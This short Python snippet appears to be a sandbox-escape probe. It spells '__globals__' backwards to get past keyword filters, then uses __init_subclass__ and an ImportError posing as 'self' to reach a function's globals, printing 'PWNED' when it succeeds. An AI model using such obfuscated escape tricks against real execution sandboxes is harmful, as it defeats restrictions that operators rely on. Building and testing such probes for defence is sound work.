# own method with a library's error as self, by init_subclass
def f():
    pass


H = "".join(reversed("__slabolg__"))


class Row:
    name = ("x",)
    x = 1

    def show(self):
        return [getattr(f, n, None) for n in self.name]

    def __init_subclass__(cls):
        print("PWNED", len(cls.show(ImportError(name=[H]))[0]))


class Low(Row):
    pass
